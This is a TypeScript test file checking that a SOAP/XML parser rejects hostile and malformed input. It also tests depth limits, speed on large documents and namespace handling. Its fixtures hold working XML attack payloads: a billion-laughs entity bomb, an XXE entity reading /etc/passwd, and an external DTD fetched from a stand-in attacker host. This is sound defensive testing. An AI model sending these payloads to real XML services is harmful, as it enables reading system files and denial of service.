import { SoapFault } from './fault';
import { parseSoapRequest } from './request-parser';
import { MAX_DEPTH, XmlError, decodeEntities, parseXml } from './xml';

const opts = { strictOrder: false, strictUnknownElements: false };

function faultOf(xml: string): SoapFault {
  try {
    parseSoapRequest(xml, opts);
  } catch (err) {
    if (err instanceof SoapFault) return err;
    throw err;
  }
  throw new Error('expected a fault');
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><lolz>&lol9;</lolz></soap:Body></soap:Envelope>`;

const XXE = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><x>&xxe;</x></soap:Body></soap:Envelope>`;

describe('hostile and malformed XML', () => {
  it.each([
    ['billion laughs', BILLION_LAUGHS],
    ['external entity', XXE],
    ['external DTD', '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>'],
    ['lower-case doctype', '<!doctype x><x/>'],
  ])('refuses %s before parsing, with a client fault', (_name, xml) => {
    const f = faultOf(xml);
    expect(f.code).toBe('Client');
    expect(f.faultString).toMatch(/DOCTYPE is disallowed/);
  });

  it('refuses undeclared and unterminated entity references', () => {
    expect(() => parseXml('<x>&xxe;</x>')).toThrow('The entity "xxe" was referenced, but not declared.');
    expect(() => parseXml('<x>a & b</x>')).toThrow(XmlError);
    expect(() => parseXml('<x>&#0;</x>')).toThrow(/invalid XML character/);
    expect(decodeEntities('&lt;&gt;&amp;&quot;&apos;&#65;&#x42;')).toBe(`<>&"'AB`);
  });

  it.each([
    ['unclosed tag', '<a><b></a>'],
    ['text only', 'hello'],
    ['empty', ''],
    ['two roots', '<a/><b/>'],
    ['unbound prefix', '<p:a/>'],
    ['garbage after root', '<a/>junk'],
    ['control character', '<a>\u0001</a>'],
    ['bad attribute', '<a b=1/>'],
  ])('refuses %s', (_name, xml) => {
    expect(() => parseXml(xml)).toThrow(XmlError);
    expect(faultOf(xml).faultString).toMatch(/^Couldn't create SOAP message due to exception: XML reader error: /);
  });

  it('refuses nesting deeper than the limit without overflowing the stack', () => {
    const deep = (n: number) => '<a>'.repeat(n) + '</a>'.repeat(n);
    expect(() => parseXml(deep(MAX_DEPTH))).not.toThrow();
    expect(() => parseXml(deep(MAX_DEPTH + 1))).toThrow(XmlError);
    expect(() => parseXml(deep(100_000))).toThrow(XmlError);
  });

  it('stays fast on large flat documents', () => {
    const many = `<a>${'<b x="1">t</b>'.repeat(50_000)}</a>`;
    const started = Date.now();
    expect(parseXml(many).children).toHaveLength(50_000);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('resolves default and prefixed namespaces and xsi:nil', () => {
    const el = parseXml('<a xmlns="urn:d" xmlns:p="urn:p" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><p:b xsi:nil="true"/><c/></a>');
    expect([el.ns, el.children[0].ns, el.children[1].ns]).toEqual(['urn:d', 'urn:p', 'urn:d']);
    expect(el.children[0].attrs.get('{http://www.w3.org/2001/XMLSchema-instance}nil')).toBe('true');
  });
});
